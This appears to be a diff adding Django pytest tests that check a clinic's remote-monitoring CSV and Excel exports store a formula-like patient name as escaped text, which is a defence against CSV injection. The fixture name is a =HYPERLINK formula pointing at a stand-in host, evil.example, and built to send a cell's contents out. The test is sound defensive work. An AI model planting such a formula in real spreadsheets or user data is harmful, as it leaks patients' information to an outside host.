@@ -1,0 +1,70 @@
+"""The remote-monitoring export is opened in spreadsheets: a patient's name typed as a formula
+must arrive as text (CSV injection), in CSV and in Excel alike."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import uuid
+from typing import cast
+
+import pytest
+from django.test import Client
+from openpyxl import load_workbook
+
+from apps.clinics.models import User
+from apps.outcomes import services
+from apps.patients.models import Patient
+from apps.programs.daily_totals import daily_totals_refresh_days
+from apps.programs.models import Program, SetLog
+from tests.factories import AdminFactory, ExerciseItemFactory, PatientFactory, ProgramFactory
+
+pytestmark = pytest.mark.django_db
+
+NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+
+
+def _patient_with_logs(admin: User) -> Patient:
+    patient = cast(Patient, PatientFactory(clinic=admin.clinic, full_name=NAME))
+    program = cast(Program, ProgramFactory(patient=patient, start_date=dt.date(2026, 10, 1)))
+    item = ExerciseItemFactory(program=program)
+    days = [dt.date(2026, 11, 2), dt.date(2026, 11, 3)]
+    for day in days:
+        SetLog.objects.create(
+            client_id=uuid.uuid4(), patient=patient, item=item, performed_on=day,
+            reps=10, pain=2, exercise=item.exercise, target_sets=2, target_reps=10,
+        )  # fmt: skip
+    daily_totals_refresh_days(patient_id=patient.pk, days=days)
+    return patient
+
+
+def _as(user: User) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def test_it_writes_a_formula_like_patient_name_as_text_in_the_csv() -> None:
+    admin = cast(User, AdminFactory())
+    services.monitoring_set(admin=admin, enabled=True)
+    _patient_with_logs(admin)
+
+    response = _as(admin).get("/outcomes/monitoring/?month=2026-11&format=csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    names = [row[1] for row in rows[1:] if len(row) > 1 and NAME in row[1]]
+    assert names == ["'" + NAME]
+
+
+def test_it_writes_a_formula_like_patient_name_as_text_in_the_workbook() -> None:
+    admin = cast(User, AdminFactory())
+    services.monitoring_set(admin=admin, enabled=True)
+    _patient_with_logs(admin)
+
+    response = _as(admin).get("/outcomes/monitoring/?month=2026-11&format=xlsx")
+
+    sheet = load_workbook(io.BytesIO(response.content))["2026-11"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value and NAME in row[1].value]
+    assert [cell.value for cell in cells] == ["'" + NAME]
+    assert all(cell.data_type == "s" for cell in cells)  # text, not a formula ("f")
